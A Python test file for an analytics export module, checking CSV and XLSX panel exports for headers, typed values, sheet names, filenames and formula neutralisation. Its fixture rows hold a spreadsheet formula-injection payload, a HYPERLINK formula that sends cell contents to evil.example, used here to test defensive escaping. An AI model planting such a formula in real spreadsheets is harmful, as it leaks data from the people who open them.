"""Panels as CSV and XLSX: the page's headings and rows, read back unchanged, formulas kept as text."""
from __future__ import annotations

import datetime as dt
import io

from openpyxl import load_workbook

from analytics import exports
from dam import spreadsheets

COLUMNS = [("title", "Asset"), ("count", "Downloads"), ("last", "Last downloaded")]
ROWS = [
    {"uid": "u1", "title": "Harbour at dawn", "count": 12, "last": dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.UTC)},
    {"uid": "u2", "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "count": 3, "last": None},
    {"uid": "u3", "title": "@SUM(1+1)", "count": 0, "last": None},
]


def test_csv_has_the_labels_in_order_and_reads_back_the_same_values():
    text = exports.csv_text(COLUMNS, ROWS)
    assert text.splitlines()[0] == '"Asset","Downloads","Last downloaded"'
    rows = list(spreadsheets.Reader(text))
    assert [r["Asset"] for r in rows] == [r["title"] for r in ROWS]
    assert [r["Downloads"] for r in rows] == ["12", "3", "0"]
    assert rows[0]["Last downloaded"] == "2026-03-01T09:30:00+00:00" and rows[1]["Last downloaded"] == ""


def test_csv_neutralises_formulas():
    text = exports.csv_text(COLUMNS, ROWS)
    assert '"\'=HYPERLINK(' in text and '"\'@SUM(1+1)"' in text
    assert '"=HYPERLINK' not in text


def test_xlsx_reads_back_with_typed_cells_and_formulas_as_text():
    data = exports.xlsx_bytes([("Top assets", COLUMNS, ROWS), ("Top assets", COLUMNS, [])])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Top assets", "Top assets (2)"]
    sheet = book["Top assets"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Asset", "Downloads", "Last downloaded")
    assert rows[1] == ("Harbour at dawn", 12, dt.datetime(2026, 3, 1, 9, 30))
    assert rows[2][0] == '=HYPERLINK("http://evil.example/?x="&A1,"click")' and rows[3][0] == "@SUM(1+1)"
    assert sheet["A3"].data_type == "s" and sheet["A4"].data_type == "s"
    assert sheet["B2"].data_type == "n"
    assert list(book["Top assets (2)"].iter_rows(values_only=True)) == [("Asset", "Downloads", "Last downloaded")]


def test_sheet_names_respect_excels_rules():
    data = exports.xlsx_bytes([("Downloads: by day / channel and much more than thirty-one", COLUMNS, [])])
    name = load_workbook(io.BytesIO(data)).sheetnames[0]
    assert len(name) <= 31 and ":" not in name and "/" not in name


def test_filename_names_the_panel_and_the_days():
    start, end = dt.datetime(2026, 1, 1, tzinfo=dt.UTC), dt.datetime(2026, 1, 31, tzinfo=dt.UTC)
    assert exports.filename("top_assets", start, end, "xlsx") == "top_assets-2026-01-01-to-2026-01-31.xlsx"
